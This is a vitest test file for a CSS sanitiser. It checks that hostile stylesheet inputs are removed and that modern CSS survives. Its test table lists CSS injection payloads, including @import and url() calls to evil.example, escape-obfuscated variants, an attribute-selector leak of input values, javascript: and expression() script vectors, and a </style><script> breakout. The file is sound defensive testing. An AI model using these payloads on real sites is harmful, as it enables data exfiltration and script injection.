import { describe, expect, test } from 'vitest';
import { assetOf } from '#tests/fixtures/hotsite.ts';
import { Notes } from './notes.ts';
import { rebuildCss, rebuildStyleAttribute } from './rebuild-css.ts';

function css(source: string) {
  const notes = new Notes();
  const assets = new Map([['a1', assetOf('a1')]]);
  const context = { notes, assets, textAllowed: (text: string) => !/\d/.test(text) };
  const style = rebuildStyleAttribute(source, { ...context, notes: new Notes() });
  return { css: rebuildCss(source, context), style, notes };
}

describe('hostile CSS', () => {
  test.each([
    ['an import', '@import "https://evil.example/x.css";'],
    ['an import written with escapes', '@\\69mport "https://evil.example/x.css";'],
    ['an import by address', '@import url(//evil.example/x.css);'],
    ['a font of a foreign host', '@font-face{font-family:x;src:url(https://evil.example/x.woff2)}'],
    ['a character set', '@charset "utf-7";'],
    ['a namespace', '@namespace url(https://evil.example);'],
    ['an address', 'a{background:url(https://evil.example/x.png)}'],
    ['an address in quotes', 'a{background:url("https://evil.example/x.png")}'],
    ['an address without a scheme', 'a{background:url(//evil.example/x.png)}'],
    ['an address written with escapes', 'a{background:u\\72l(https://evil.example/x.png)}'],
    ['an address written with hex escapes', 'a{background:\\75\\72\\6c(https://evil.example/x.png)}'],
    ['a set of addresses', 'a{background:image-set("https://evil.example/x.png" 1x)}'],
    ['an address in a custom property', 'a{--b:url(https://evil.example/x.png);background:var(--b)}'],
    ['an address that reads an attribute', 'input[value^=a]{background:url(https://evil.example/?a)}'],
    ['an address in a cursor', 'a{cursor:url(https://evil.example/x.cur),auto}'],
    ['an address in a filter', 'a{filter:url(https://evil.example/x.svg#f)}'],
    ['an address in content', 'a::before{content:url(https://evil.example/x.png)}'],
    ['an address in a nested rule', 'a{&:hover{background:url(https://evil.example/x.png)}}'],
    ['an address in a media query', '@media (width>1px){a{background:url(https://evil.example/x.png)}}'],
    [
      'an address in a supports query',
      '@supports (background:url(https://evil.example/x.png)){a{color:red}}',
    ],
    ['a script address', 'a{background:url(javascript:alert(1))}'],
    ['a data address', 'a{background:url("data:image/svg+xml,<svg onload=alert(1)>")}'],
    ['an expression', 'a{width:expression(alert(1))}'],
    ['a behaviour', 'a{behavior:url(x.htc)}'],
    ['a binding', 'a{-moz-binding:url(x.xml#a)}'],
    ['a picture nobody knows', 'a{background:url(asset:zz)}'],
    ['a rule cut short', 'a{background:url(https://evil.example/x.png'],
  ])('PUB-10 %s does not get through', (_name, source) => {
    const result = css(source);
    expect(result.css).not.toMatch(
      /evil|import|url\s*\(|expression|behavior|binding|javascript|charset|namespace/i,
    );
    expect(result.style).not.toMatch(/evil|expression|behavior|binding|javascript/i);
  });

  test('a text cannot end the element the sheet stands in', () => {
    expect(css('a::before{content:"</style><script>alert(1)</script>"}').css).not.toContain('</');
    expect(css('a::before{content:"<!--"}').css).not.toContain('<!--');
  });

  test('figures the record does not hold are not shown by a style either', () => {
    expect(css('a::before{content:"R$ 1"}.b::after{content:"→"}').css).toBe(
      'a::before{}.b::after{content:"→"}',
    );
  });

  test('the modern language comes through as it was written', () => {
    const source =
      ':root{--cor:#123456}@media (width>=48em){.a{display:grid;gap:clamp(1rem,2vw,3rem)}}' +
      '@supports (animation-timeline:view()){.a{animation:x linear both;animation-timeline:view()}}' +
      '@keyframes x{from{opacity:0}to{opacity:1}}@container (width>20em){.c:has(img)>p{color:color-mix(in oklab,red 20%,blue)}}' +
      'body:has([data-corretor=whatsapp]){padding-bottom:4rem}.p{clip-path:path("M0 0L1 1Z")}.g{background:url(asset:a1)}';
    const result = css(source);
    expect([...result.notes.repaired.keys()]).toEqual([]);
    for (const part of [
      '@media',
      '@supports',
      '@keyframes',
      '@container',
      'color-mix',
      ':has(',
      'path(',
      'asset:a1',
    ])
      expect(result.css).toContain(part);
  });
});
